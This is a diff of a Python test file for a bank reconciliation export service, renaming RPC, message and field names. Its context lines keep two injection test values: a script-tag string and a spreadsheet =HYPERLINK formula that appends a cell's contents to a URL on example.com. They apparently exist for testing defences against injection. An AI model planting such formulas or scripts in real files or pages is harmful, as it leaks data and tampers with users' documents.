@@ -29,12 +29,12 @@ SCRIPT = "<script>document.title='hacked'</script>"
 FORMULA = '=HYPERLINK("http://example.com/?"&A1,"paid")'
 
 
-async def exported(bank: StatementBank, **request: Any) -> tuple[pb.ExportReconciliationStarted, bytes]:
+async def exported(bank: StatementBank, **request: Any) -> tuple[pb.ExportReconciliationStatementStarted, bytes]:
     """A file: of what is drawn up now, unless the request names a statement."""
     if "reconciliation_statement_id" not in request:
         request = {"scope": bank.scope(), **request}
-    wanted = pb.ExportReconciliationRequest(**{"format": CSV, **request})
-    call = bank.server.reconciliations.ExportReconciliation(wanted)
+    wanted = pb.ExportReconciliationStatementRequest(**{"format": CSV, **request})
+    call = bank.server.reconciliations.ExportReconciliationStatement(wanted)
     responses = [response async for response in call]
     assert [response.WhichOneof("part") for response in responses] == ["started", *["data"] * (len(responses) - 1)]
     chunks = [response.data for response in responses[1:]]
@@ -86,17 +86,17 @@ async def test_matches_and_rows_in_none_are_exported_with_rule_decision_and_outc
         records.record("b", "-2.00", booking_date=before(1)),
     )
     run = await bank.run()
-    decision = (await bank.confirm(run)).row_decision.id
-    ignored = (await bank.ignore([lost])).row_decision.id
+    decision = (await bank.confirm(run)).reconciliation_decision.id
+    ignored = (await bank.ignore([lost])).reconciliation_decision.id
     _, content = await exported(bank, content=MATCHES)
-    assert [(row["match_id"], row["rule"], row["amount"], row["row_decision_id"]) for row in table(content)] == [
-        (f"{run}/1", "r", "10.00", decision)
-    ] * 2
+    assert [
+        (row["match_id"], row["rule"], row["amount"], row["reconciliation_decision_id"]) for row in table(content)
+    ] == [(f"{run}/1", "r", "10.00", decision)] * 2
     assert record in content.decode()
     started, content = await exported(bank, content=UNMATCHED)
     assert started.file_name == f"unmatched-rows-{bank.source.id}-USD-{bank.scope().date}.csv"
     (row,) = table(content)
-    assert (row["outcome"], row["reason"], row["row_id"], row["row_decision_id"]) == (
+    assert (row["outcome"], row["reason"], row["row_id"], row["reconciliation_decision_id"]) == (
         "IGNORED", "A test payment.", lost, ignored,
     )  # fmt: skip
 
@@ -166,5 +166,5 @@ async def test_what_there_is_no_file_of_is_told(
         scope = {"external_source_id": f"src_{'0' * 26}", "currency": "USD", "date": "2026-03-31"}
         fields = {"scope": scope, **fields}
     fields = {"format": CSV, **fields}
-    call = server.reconciliations.ExportReconciliation(pb.ExportReconciliationRequest(**fields))
+    call = server.reconciliations.ExportReconciliationStatement(pb.ExportReconciliationStatementRequest(**fields))
     assert (await wire.rejection(_rest(call))).fields == (field,)
